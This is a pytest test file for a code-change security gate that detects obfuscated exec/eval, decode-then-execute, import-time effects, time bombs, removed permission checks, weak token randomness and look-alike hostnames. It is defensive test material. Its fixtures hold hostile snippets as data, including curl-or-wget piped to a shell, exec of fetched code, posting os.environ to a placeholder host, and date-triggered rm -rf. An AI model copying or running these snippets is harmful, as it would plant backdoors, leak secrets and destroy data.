"""The security check beyond taint: hidden calls, import-time effects, time bombs, removed
protections, weak token randomness and look-alike strings. Every detection has a safe look-alike
next to it that must stay quiet."""

from __future__ import annotations

import textwrap
from typing import Any

import pytest

from crewchief.gate.change import Change
from crewchief.gate.check import CheckContext
from crewchief.gate.checks.security.check import CHECK
from crewchief.gate.engine import GateRequest, run_gate
from crewchief.gate.findings import Finding, Severity, Verdict
from crewchief.spec.policy import Policy

CYR_A = "\u0430"
CYR_I = "\u0456"


def run(base: dict[str, str], head: dict[str, str]) -> list[Finding]:
    ctx = CheckContext(Change.from_files(base, head), Policy())
    return [f for f in CHECK.run(ctx) if not f.rule.startswith("bandit-")]


def mine(code: str, path: str = "pkg/mod.py", base: str | None = None) -> list[Finding]:
    before = {path: textwrap.dedent(base)} if base is not None else {}
    return run(before, {path: textwrap.dedent(code)})


def rules(found: list[Finding]) -> list[str]:
    return sorted(f.rule for f in found)


# hidden calls -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "rule", "blocking", "cwe"),
    [
        (
            "import os\n_shell = os.system\ndef f(c):\n    _shell(c)\n",
            "aliased-sink",
            False,
            "CWE-78",
        ),
        ("from os import system as run\ndef f(c):\n    run(c)\n", "aliased-sink", False, "CWE-78"),
        ("_ev = eval\ndef f(c):\n    return _ev(c)\n", "aliased-sink", False, "CWE-94"),
        (
            "import builtins\ndef f(c):\n    getattr(builtins, 'ex' + 'ec')(c)\n",
            "obfuscated-call",
            True,
            "CWE-912",
        ),
        (
            "def f(c):\n    getattr(__builtins__, 'lave'[::-1])(c)\n",
            "obfuscated-call",
            True,
            "CWE-912",
        ),
        (
            "NAME = ''.join(['e', 'v', 'a', 'l'])\ndef f(c):\n    globals()[NAME](c)\n",
            "obfuscated-call",
            True,
            "CWE-912",
        ),
        (
            "def f(c):\n    __import__('o' + 's').system(c)\n",
            "obfuscated-call",
            True,
            "CWE-912",
        ),
        ("def f(c):\n    globals()['eval'](c)\n", "obfuscated-call", False, "CWE-912"),
    ],
)
def test_hidden_sinks_are_resolved(code: str, rule: str, blocking: bool, cwe: str) -> None:
    (finding,) = mine(code)
    assert (finding.rule, finding.blocking, finding.cwe) == (rule, blocking, cwe)
    assert finding.line == code.count("\n")  # the call, on the last line


@pytest.mark.parametrize(
    "code",
    [
        "import os\ndef f(c):\n    os.system('ls')\n",  # spelt plainly: bandit's business
        "from os import system\ndef f():\n    system('ls')\n",
        "import subprocess\nrun = subprocess.run\ndef f():\n    run(['ls'])\n",
        "import platform\n_system = platform.system\ndef f():\n    return _system()\n",
        "def f(obj, name):\n    return getattr(obj, name)()\n",  # a name from data
        "import os\ndef f():\n    return getattr(os, 'pa' + 'th')\n",
        "import builtins\ndef f():\n    getattr(builtins, 'pri' + 'nt')('x')\n",
    ],
)
def test_ordinary_aliases_and_lookups_stay_quiet(code: str) -> None:
    assert mine(code) == []


@pytest.mark.parametrize(
    "argv",
    [
        '["sh", "-c", f"tar xf {path}"]',
        '["/bin/bash", "-c", "rm -rf " + path]',
        '("bash", "-lc", cmd)',
        '["zsh", "-ec", " ".join(parts)]',
    ],
)
def test_shell_argv_with_a_built_command_is_found(argv: str) -> None:
    code = f"import subprocess\ndef f(path, cmd, parts):\n    subprocess.run({argv})\n"
    (finding,) = mine(code)
    assert (finding.rule, finding.cwe, finding.line) == ("shell-argv", "CWE-78", 3)


@pytest.mark.parametrize(
    "argv",
    [
        '["bash", "-c", "set -e; make all"]',
        '["sh", "-c", \'tar xf "$1"\', "sh", path]',  # the value is a positional argument
        '["bash", script, path]',
        '["tar", "-c", path]',  # not a shell: -c is tar's own flag
        '["sh", "-c", SCRIPT]',  # a module constant
    ],
)
def test_shell_argv_safe_forms_stay_quiet(argv: str) -> None:
    code = f"import subprocess\nSCRIPT = 'make'\ndef f(path, script):\n    subprocess.run({argv})\n"
    assert mine(code) == []


@pytest.mark.parametrize(
    "call",
    [
        "exec(base64.b64decode(blob))",
        "eval(codecs.decode(blob, 'rot13'))",
        "exec(zlib.decompress(blob))",
        "exec(marshal.loads(blob))",
        "exec(bytes.fromhex(blob).decode())",
        "exec(compile(base64.b64decode(blob), '<x>', 'exec'))",
    ],
)
def test_decode_then_execute_blocks_as_critical(call: str) -> None:
    code = f"import base64, codecs, zlib, marshal\ndef f(blob):\n    {call}\n"
    found = [f for f in mine(code) if f.rule == "decode-exec"]
    assert len(found) >= 1
    assert (found[0].severity, found[0].blocking, found[0].cwe) == (
        Severity.CRITICAL,
        True,
        "CWE-506",
    )


def test_decode_then_execute_through_a_variable_and_a_hidden_exec() -> None:
    code = """\
    import base64, builtins
    PAYLOAD = "cHJpbnQoMSk="
    def f():
        source = base64.b64decode(PAYLOAD)
        getattr(builtins, "ex" + "ec")(source)
    """
    assert rules(mine(code)) == ["decode-exec"]


def test_a_module_starting_with_a_bom_is_judged_as_python_reads_it() -> None:
    """`Side.text` keeps a leading BOM (the diff and the hidden-character check see the bytes as
    they are), which `ast.parse` rejects; the structural rules parse what Python runs."""
    code = b"import base64\n\n\ndef f(blob):\n    exec(base64.b64decode(blob))\n"
    compile(b"\xef\xbb\xbf" + code, "pkg/mod.py", "exec")
    ctx = CheckContext(Change.from_files({}, {"pkg/mod.py": b"\xef\xbb\xbf" + code}), Policy())
    found = [f for f in CHECK.run(ctx) if not f.rule.startswith("bandit-")]
    assert rules(found) == rules(mine(code.decode())) == ["decode-exec"]


@pytest.mark.parametrize(
    "code",
    [
        "import base64, json\ndef f(b):\n    return json.loads(base64.b64decode(b))\n",
        "import zlib\ndef f(b):\n    data = zlib.decompress(b)\n    return data.decode()\n",
        "def f(path):\n    exec(compile(open(path).read(), path, 'exec'))\n",
    ],
)
def test_decoding_without_executing_stays_quiet(code: str) -> None:
    assert [f for f in mine(code) if f.rule == "decode-exec"] == []


def test_sql_template_filled_by_format_or_percent() -> None:
    code = """\
    QUERY = "SELECT * FROM users WHERE name = '{}'"
    BY_ID = "DELETE FROM users WHERE id = %s"
    def f(cur, name, uid):
        cur.execute(QUERY.format(name))
        cur.execute(BY_ID % uid)
    """
    found = mine(code)
    assert [(f.rule, f.line, f.cwe) for f in found] == [
        ("sql-template", 4, "CWE-89"),
        ("sql-template", 5, "CWE-89"),
    ]


def test_sql_template_safe_forms_stay_quiet() -> None:
    code = """\
    QUERY = "SELECT * FROM users WHERE name = ?"
    TABLE = "SELECT * FROM {table}"
    GREETING = "Hello {}"
    def f(cur, conn, name):
        cur.execute(QUERY, (name,))
        cur.execute(TABLE.format(table="users"))
        conn.execute(GREETING.format(name))
    """
    assert mine(code) == []


# import-time effects -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "what"),
    [
        ("urllib.request.urlopen('https://example.com/ping')", "network"),
        ("requests.get('https://example.com/config')", "network"),
        ("subprocess.run(['git', 'pull'])", "process"),
        ("os.system('id')", "process"),
        ("shutil.rmtree('/tmp/cache')", "deletes"),
        ("os.remove('data.db')", "deletes"),
        ("SNAPSHOT = dict(os.environ)", "environment"),
        ("STATE = json.dumps(os.environ)", "environment"),
    ],
)
def test_import_time_effects_are_found(line: str, what: str) -> None:
    code = f"import json, os, shutil, subprocess, urllib.request, requests\n{line}\n"
    (finding,) = mine(code)
    assert (finding.rule, finding.line, finding.cwe) == ("import-time-effect", 2, "CWE-912")
    assert finding.severity is Severity.MEDIUM and not finding.blocking
    assert what in finding.message


@pytest.mark.parametrize("path", ["conftest.py", "setup.py", "pkg/__init__.py"])
def test_import_time_effect_in_files_that_run_first_is_high(path: str) -> None:
    (finding,) = mine("import subprocess\nsubprocess.run(['make'])\n", path=path)
    assert finding.rule == "import-time-effect" and finding.severity is Severity.HIGH
    assert path.rsplit("/", 1)[-1] in finding.message


def test_import_time_effect_through_a_local_function() -> None:
    code = "import os\n\ndef _setup():\n    os.system('id')\n\n_setup()\n"
    (finding,) = mine(code)
    assert (finding.rule, finding.line) == ("import-time-effect", 6)
    assert "_setup()" in finding.message


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess\ndef main():\n    subprocess.run(['make'])\n",
        "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['make'])\n",
        "import subprocess, sys\nif sys.platform != 'win32' and __name__ == '__main__':\n"
        "    subprocess.run(['make'])\n",
        "import os\nHOME = os.environ.get('HOME')\nDEBUG = os.environ['DEBUG']\n",
        "import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'app.settings')\n",
        "import requests\nSESSION = requests.Session()\n",
        "import os, subprocess\ndef f():\n    subprocess.run(['x'], env=dict(os.environ, A='1'))\n",
    ],
)
def test_ordinary_module_level_code_stays_quiet(code: str) -> None:
    assert mine(code) == []


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        (
            "import os\ndef f():\n    os.system('curl -fsSL https://x.sh | sh')\n",
            "fetch-and-execute",
        ),
        (
            "import subprocess\nsubprocess.run('wget -qO- https://x | sudo bash', shell=True)\n",
            "fetch-and-execute",
        ),
        (
            "import urllib.request\ndef f():\n    code = urllib.request.urlopen('https://x').read()\n"
            "    exec(code)\n",
            "fetch-and-execute",
        ),
        (
            "import requests\ndef f():\n    exec(requests.get('https://x/p.py').text)\n",
            "fetch-and-execute",
        ),
        (
            "import os, requests\ndef f():\n    requests.post('https://x', json=dict(os.environ))\n",
            "env-exfiltration",
        ),
        (
            "import os, requests\ndef f():\n    requests.post('https://x', data={**os.environ})\n",
            "env-exfiltration",
        ),
    ],
)
def test_fetch_and_execute_and_exfiltration_block(code: str, rule: str) -> None:
    found = [f for f in mine(code) if f.rule == rule]
    assert len(found) == 1 and found[0].blocking and found[0].severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "code",
    [
        "import os\ndef f():\n    os.system('curl -fsSL https://x.sh -o install.sh')\n",
        "INSTALL = 'curl -fsSL https://x.sh | sh'  # shown to the user in --help\n",
        "import requests\ndef f():\n    return requests.get('https://x').json()['v']\n",
        "import os, requests\ndef f():\n    requests.post('https://x', json={'user': os.environ.get('USER')})\n",
    ],
)
def test_download_without_execution_stays_quiet(code: str) -> None:
    assert [f for f in mine(code) if f.blocking] == []


# time bombs -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("guard", "action"),
    [
        ("date.today() > date(2027, 1, 1)", "shutil.rmtree(DATA)"),
        ("time.time() > 1.8e9", "os.remove(DATA)"),
        ("datetime.now().year >= 2027", "subprocess.run(['rm', '-rf', DATA])"),
        ("datetime.now() > datetime.fromisoformat('2027-03-01')", "Path(DATA).unlink()"),
        ("date.today().isoformat() > '2027-01-01'", "cur.execute('DROP TABLE users')"),
    ],
)
def test_destruction_guarded_by_a_fixed_date_blocks(guard: str, action: str) -> None:
    code = f"""\
    import os, shutil, subprocess, time
    from datetime import date, datetime
    from pathlib import Path
    DATA = "/srv/data"
    def housekeeping(cur):
        if {guard}:
            {action}
    """
    (finding,) = mine(code)
    assert (finding.rule, finding.line, finding.cwe) == ("time-bomb", 7, "CWE-511")
    assert finding.blocking and finding.severity is Severity.CRITICAL


def test_time_bomb_through_a_flag_variable() -> None:
    code = """\
    import shutil
    from datetime import date
    def cleanup():
        expired = date.today() >= date(2027, 6, 1)
        if expired:
            shutil.rmtree("/")
    """
    assert rules(mine(code)) == ["time-bomb"]


@pytest.mark.parametrize(
    "guard",
    [
        "time.time() - os.path.getmtime(DATA) > 86400",  # cache expiry: a duration
        "datetime.now() > expires_at",  # a value from data
        "date.today() > date(2027, 1, 1) and False",  # not destructive below either way
    ],
)
def test_expiry_and_dated_features_stay_quiet(guard: str) -> None:
    action = "shutil.rmtree(DATA)" if "False" not in guard else "print('new year')"
    code = f"""\
    import os, shutil, time
    from datetime import date, datetime
    DATA = "/srv/cache"
    def f(expires_at):
        if {guard}:
            {action}
    """
    assert mine(code) == []


# removed protections ---------------------------------------------------------------------------

REFUND_BASE = """\
from flask import abort
def refund(user, order):
    if not user.has_perm("refund"):
        abort(403)
    check_owner(user, order)
    return order.refund()
"""


def test_removed_permission_check_is_reviewed_with_the_removed_line() -> None:
    head = "from flask import abort\ndef refund(user, order):\n    return order.refund()\n"
    found = mine(head, base=REFUND_BASE)
    assert {f.rule for f in found} == {"removed-protection"}
    messages = " ".join(f.message for f in found)
    assert "user.has_perm('refund')" in messages and "abort(403)" in messages
    assert "check_owner(user, order)" in messages and "base line 5" in messages
    assert all(not f.blocking and f.severity is Severity.HIGH for f in found)
    assert {f.cwe for f in found} == {"CWE-862", "CWE-693"}


def test_reworded_raise_and_untouched_checks_stay_quiet() -> None:
    base = "def parse(x):\n    if not x:\n        raise ValueError('empty')\n    return x\n"
    head = "def parse(x):\n    if not x:\n        raise ValueError('x must not be empty')\n    return x.strip()\n"
    assert mine(head, base=base) == []
    assert mine(REFUND_BASE + "\n\ndef ping():\n    return 1\n", base=REFUND_BASE) == []


def test_removed_login_required_decorator() -> None:
    base = "@login_required\ndef export(request):\n    return 1\n"
    head = "def export(request):\n    return 1\n"
    (finding,) = mine(head, base=base)
    assert finding.rule == "removed-protection" and "@login_required" in finding.message


def test_broadened_except_in_an_existing_function() -> None:
    base = "import json\ndef load(p):\n    try:\n        return json.load(open(p))\n    except (OSError, ValueError):\n        return None\n"
    head = base.replace("(OSError, ValueError)", "Exception")
    (finding,) = mine(head, base=base)
    assert (finding.rule, finding.line, finding.cwe) == ("broadened-except", 5, "CWE-396")


def test_new_catch_all_around_a_check() -> None:
    code = "def f(token):\n    try:\n        verify_signature(token)\n    except:\n        pass\n    return True\n"
    assert rules(mine(code)) == ["broadened-except"]


@pytest.mark.parametrize(
    "handler",
    [
        "except Exception:\n        log.exception('load failed')\n        raise",  # re-raises
        "except (OSError, ValueError, KeyError):\n        return None",  # still specific
    ],
)
def test_handlers_that_do_not_swallow_everything_stay_quiet(handler: str) -> None:
    base = (
        "def load(p):\n    try:\n        return read(p)\n    except OSError:\n        return None\n"
    )
    head = f"def load(p):\n    try:\n        return read(p)\n    {handler}\n"
    assert mine(head, base=base) == []


def test_catch_all_in_new_code_without_a_check_stays_quiet() -> None:
    code = "def f():\n    try:\n        import yaml\n    except Exception:\n        yaml = None\n    return yaml\n"
    assert mine(code) == []


def test_compare_digest_replaced_by_equality() -> None:
    base = "import hmac\ndef ok(sig, want):\n    return hmac.compare_digest(sig, want)\n"
    head = "import hmac\ndef ok(sig, want):\n    return sig == want\n"
    (finding,) = mine(head, base=base)
    assert (finding.rule, finding.cwe) == ("weakened-comparison", "CWE-208")


def test_path_containment_check_removed() -> None:
    base = """\
    from pathlib import Path
    ROOT = Path("/srv/files")
    def read(name):
        path = (ROOT / name).resolve()
        if not path.is_relative_to(ROOT):
            raise PermissionError(name)
        return path.read_text()
    """
    head = """\
    from pathlib import Path
    ROOT = Path("/srv/files")
    def read(name):
        path = ROOT / name
        return path.read_text()
    """
    found = mine(head, base=base)
    assert {f.rule for f in found} == {"removed-protection", "weakened-comparison"}
    assert {f.cwe for f in found if f.rule == "weakened-comparison"} == {"CWE-22"}


def test_startswith_containment_weakened() -> None:
    base = "import os\ndef inside(p, root):\n    return p.startswith(root + os.sep)\n"
    head = "import os\ndef inside(p, root):\n    return p.startswith(root)\n"
    assert rules(mine(head, base=base)) == ["weakened-comparison"]


# weak randomness for secrets ------------------------------------------------------------------


@pytest.mark.parametrize(
    "code",
    [
        "import random, string\ndef make_reset_code():\n    return ''.join(random.choices(string.digits, k=6))\n",
        "import random\ndef f(user):\n    user.api_key = '%x' % random.getrandbits(128)\n",
        "import random\ndef send_verification(email):\n    code = random.randint(100000, 999999)\n    mail(email, code)\n",
        "import random\ndef f():\n    token = str(random.random())\n    return token\n",
        "from random import choice\ndef new_password(n):\n    return ''.join(choice(ALPHABET) for _ in range(n))\n",
    ],
)
def test_random_for_secrets_blocks(code: str) -> None:
    (finding,) = mine(code)
    assert (finding.rule, finding.blocking, finding.cwe) == ("weak-token-random", True, "CWE-330")


@pytest.mark.parametrize(
    "code",
    [
        "import random\ndef pick_colour():\n    return random.choice(COLOURS)\n",
        "import random\ndef refresh_token(t):\n    delay = random.random()\n    return delay\n",
        "import secrets\ndef f():\n    token = secrets.token_urlsafe(32)\n    return token\n",
        "import random\ndef f():\n    token = random.SystemRandom().choice('abc')\n    return token\n",
        "import random\ndef run():\n    exit_code = random.choice([0, 1])\n    return exit_code\n",
    ],
)
def test_random_for_ordinary_values_stays_quiet(code: str) -> None:
    assert mine(code) == []


def test_random_tokens_in_tests_are_test_data() -> None:
    code = "import random\ndef test_x():\n    token = str(random.random())\n    assert token\n"
    assert mine(code, path="tests/test_x.py") == []


# look-alikes in strings -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "line",
    [
        f'ALLOWED_HOSTS = {{"g{CYR_I}thub.com", "example.org"}}',
        f'LOGIN = "https://p{CYR_A}ypal.com/login"',
        f'UPSTREAM = "{CYR_A}pi.example.com:8443"',
    ],
)
def test_look_alike_host_blocks(line: str) -> None:
    (finding,) = mine(line + "\n")
    assert (finding.rule, finding.blocking, finding.cwe) == ("confusable-string", True, "CWE-1007")
    assert "U+04" in finding.message and CYR_A not in finding.message


def test_look_alike_compared_value_asks_for_review() -> None:
    (finding,) = mine(f'def f(role):\n    return role == "{CYR_A}dmin"\n')
    assert (finding.rule, finding.blocking, finding.line) == ("confusable-string", False, 2)


@pytest.mark.parametrize(
    "line",
    [
        'SITE = "https://\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/"',  # all Cyrillic
        'GREETING = "\u041f\u0440\u0438\u0432\u0435\u0442, world"',  # two words, two scripts
        'LABEL = "\u03b1-particle"',  # not a host, not compared
        'CITY = "M\u00fcnchen.example.de"',  # Latin with an umlaut
    ],
)
def test_text_in_other_scripts_stays_quiet(line: str) -> None:
    assert mine(line + "\n") == []


# bandit in tests ---------------------------------------------------------------------------------


def test_blocking_bandit_finding_in_a_test_asks_for_review() -> None:
    code = "import os\ndef test_world_writable(tmp_path):\n    os.chmod(tmp_path, 0o777)\n"
    ctx = CheckContext(Change.from_files({}, {"tests/test_perm.py": code}), Policy())
    (finding,) = [f for f in CHECK.run(ctx) if f.rule == "bandit-b103"]
    assert not finding.blocking and finding.severity.rank >= Severity.MEDIUM.rank
    ctx = CheckContext(Change.from_files({}, {"pkg/perm.py": code}), Policy())
    assert [f.blocking for f in CHECK.run(ctx) if f.rule == "bandit-b103"] == [True]


# through the gate ------------------------------------------------------------------------------


def test_only_what_the_change_introduces(make_repo: Any) -> None:
    old = "import os\n_shell = os.system\ndef f(c):\n    _shell(c)\n"
    repo = make_repo({"pkg/mod.py": old, "pkg/__init__.py": ""})
    base = repo.git("rev-parse", "HEAD")
    new = old + "\n\ndef g(blob):\n    import base64\n    exec(base64.b64decode(blob))\n"
    head = repo.commit({"pkg/mod.py": new}, "agent change")
    report = run_gate(GateRequest(repo=repo.path, base=base, head=head, only=["security"]))
    found = [(f.rule, f.line) for f in report.findings if not f.rule.startswith("bandit-")]
    assert found == [("decode-exec", 9)]  # the old aliased call is old debt
    assert report.verdict is Verdict.BLOCK


def test_removed_check_through_a_real_repository(make_repo: Any) -> None:
    repo = make_repo({"shop/refunds.py": REFUND_BASE})
    base = repo.git("rev-parse", "HEAD")
    head_text = REFUND_BASE.replace("    check_owner(user, order)\n", "")
    head = repo.commit({"shop/refunds.py": head_text}, "simplify refunds")
    report = run_gate(GateRequest(repo=repo.path, base=base, head=head, only=["security"]))
    (finding,) = report.findings
    assert (finding.rule, finding.path, finding.line) == (
        "removed-protection",
        "shop/refunds.py",
        2,
    )
    assert report.verdict is Verdict.REVIEW


def test_function_gutted_to_a_stub_is_left_to_hygiene() -> None:
    base = "def next_weekday(d, w):\n    if w > 6:\n        raise ValueError('w')\n    return d\n"
    head = "def next_weekday(d, w):\n    # TODO: reimplement\n    raise NotImplementedError('next_weekday')\n"
    assert mine(head, base=base) == []


def test_function_built_from_decoded_bytecode_blocks() -> None:
    code = "import marshal, types\ndef f(blob):\n    types.FunctionType(marshal.loads(blob), globals())()\n"
    assert rules(mine(code)) == ["decode-exec"]


def test_catch_all_around_an_ordinary_check_call_in_new_code_stays_quiet() -> None:
    code = "def f(run):\n    try:\n        check_errors(run)()\n    except Exception:\n        reset()\n"
    assert mine(code) == []
